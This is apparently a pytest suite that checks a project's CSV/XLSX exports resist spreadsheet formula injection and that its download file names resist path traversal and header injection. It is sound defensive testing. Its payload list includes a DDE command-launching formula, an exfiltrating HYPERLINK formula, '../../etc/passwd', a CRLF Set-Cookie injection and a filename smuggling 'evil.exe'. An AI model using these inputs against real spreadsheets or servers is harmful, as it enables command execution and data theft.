"""Exports cannot act when they are opened (methods.md A4, J1 and J7), and lose nothing."""

import csv
import datetime as dt
from decimal import Decimal
from io import BytesIO, StringIO

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from groundswell.exchange.readers import table_from
from groundswell.exchange.writers import content_disposition, csv_text, file_name, guarded, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://x?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    '"=1"',
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "-",
    "+",
    "=",
    "-1-1",
    "+44 20 7946 0000",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_j1_text_that_could_run_begins_with_an_apostrophe_in_csv(payload: str) -> None:
    text = csv_text(["note"], [[payload]])
    assert list(csv.reader(StringIO(text, newline="")))[1] == ["'" + payload.replace("\r", "\n")]


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if "\0" not in text and "\r" not in text])
def test_j1_text_that_could_run_is_typed_as_text_in_xlsx(payload: str) -> None:
    stream = BytesIO()
    write_xlsx(stream, ["note"], [[payload]])
    cell = openpyxl.load_workbook(stream).active["A2"]
    assert (cell.data_type, cell.value) == ("s", payload)


def test_j1_headings_are_guarded_too() -> None:
    assert csv_text(["=1", "b"], []) == "'=1,b\n"


@pytest.mark.parametrize("number", ["-5", "+5", "-0.25", "-1e5", "3", ".5"])
def test_j1_numbers_stay_numbers(number: str) -> None:
    assert guarded(number) == number


def test_cells_of_every_kind_are_written_as_people_read_them() -> None:
    row = [-5, 2.5, Decimal("1E+3"), Decimal("0.10"), float("nan"), None, True, dt.date(2024, 3, 4), "a, b", "é"]
    assert csv_text(["x"] * 10, [row]).splitlines()[1] == '-5,2.5,1000,0.10,,,true,2024-03-04,"a, b",é'
    stream = BytesIO()
    write_xlsx(stream, ["x"] * 10, [row])
    cells = [cell.value for cell in openpyxl.load_workbook(stream).active[2]]
    assert cells == [-5, 2.5, 1000, 0.1, None, None, True, dt.datetime(2024, 3, 4), "a, b", "é"]  # noqa: DTZ001


CELLS = st.one_of(
    st.text(st.characters(exclude_categories=["Cc", "Cs"], include_characters="\t\n")),
    st.floats(-1e300, 1e300),
    st.integers(-(10**12), 10**12),
    st.sampled_from([None, True, False]),
    st.dates(dt.date(1901, 1, 1)),
)


def read_back(cell: object) -> object:
    """A cell as openpyxl gives it again: a blank is nothing, a day begins at midnight, 17 digits are 16."""
    if isinstance(cell, dt.date):
        return dt.datetime(cell.year, cell.month, cell.day)  # noqa: DTZ001
    return pytest.approx(cell, rel=1e-15) if isinstance(cell, float) else None if cell == "" else cell


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3)))
@example([["_x0041_", " a ", "a\nb"], ["<&>\"'", "name", True], [1, 1.0, False], ["=1+1", "", 0], [None] * 3])
def test_a_workbook_holds_every_cell_in_its_place_as_it_was(rows: list[list[object]]) -> None:
    stream = BytesIO()
    write_xlsx(stream, ["name", "b", "c"], rows)
    page = openpyxl.load_workbook(stream, read_only=True).active
    assert page.calculate_dimension() == f"A1:C{len(rows) + 1}"
    assert list(page.values)[1:] == [tuple(map(read_back, row)) for row in rows]


def test_more_different_words_than_stand_side_by_side_keep_their_places() -> None:
    stream, rows = BytesIO(), [[f"word {number}", number, f"other {number}"] for number in range(1_200)]
    write_xlsx(stream, ["a", "b", "c"], rows)
    page = openpyxl.load_workbook(stream, read_only=True).active
    assert [list(row) for row in page.values] == [["a", "b", "c"], *rows]


def test_the_same_content_gives_the_same_workbook() -> None:
    first, second = BytesIO(), BytesIO()
    for stream in (first, second):
        write_xlsx(stream, ["a"], [["x"], [1]])
    assert first.getvalue() == second.getvalue()


def test_text_longer_than_a_cell_is_cut_and_too_many_rows_are_refused() -> None:
    stream = BytesIO()
    write_xlsx(stream, ["a"], [["x" * 40_000]], sheet="It's [a] 'sheet'")
    page = openpyxl.load_workbook(stream).active
    assert len(page["A2"].value) == 32_767
    assert page["A2"].value.endswith("…")
    with pytest.raises(ValueError, match="a sheet holds 1,048,576 rows"):
        write_xlsx(BytesIO(), ["a"], ([] for _ in range(1_048_577)))


@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_characters="\0\r", exclude_categories=["Cs"])), min_size=2, max_size=2)
    )
)
def test_what_is_written_is_read_again_but_for_the_apostrophe(rows: list[list[str]]) -> None:
    written = [row for row in rows if any(row)]
    table, findings = table_from(csv_text(["left", "right"], written).encode(), "a.csv", delimiter=",")
    assert not [finding for finding in findings if finding.is_error]
    assert table is not None
    assert list(zip(table.columns["left"], table.columns["right"], strict=True)) == [
        tuple(map(guarded, row)) for row in written
    ]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("report.csv", "report.csv"),
        ("../../etc/passwd", "etc-passwd"),
        ("a\r\nSet-Cookie: x=1.csv", "a-Set-Cookie- x=1.csv"),
        ('a"; filename="evil.exe', "a- filename=-evil.exe"),
        ("C:\\windows\\x.csv", "C-windows-x.csv"),
        ("nul.csv", "_nul.csv"),
        (".htaccess", "htaccess"),
        ("\u202egpj.csv", "gpj.csv"),
        ("", "groundswell"),
        ("...", "groundswell"),
    ],
)
def test_j7_a_file_name_cannot_leave_its_folder_or_its_header(name: str, expected: str) -> None:
    assert file_name(name) == expected
    header = content_disposition(name)
    assert "\r" not in header
    assert "\n" not in header


def test_j7_letters_beyond_ascii_travel_in_their_own_parameter() -> None:
    assert content_disposition("São Paulo.csv") == (
        "attachment; filename=\"Sao Paulo.csv\"; filename*=UTF-8''S%C3%A3o%20Paulo.csv"
    )
    assert content_disposition("日本.csv").startswith('attachment; filename="groundswell.csv"; filename*=')
    assert len(file_name("x" * 500 + ".csv")) <= 120
    assert file_name("x" * 500 + ".csv").endswith(".csv")
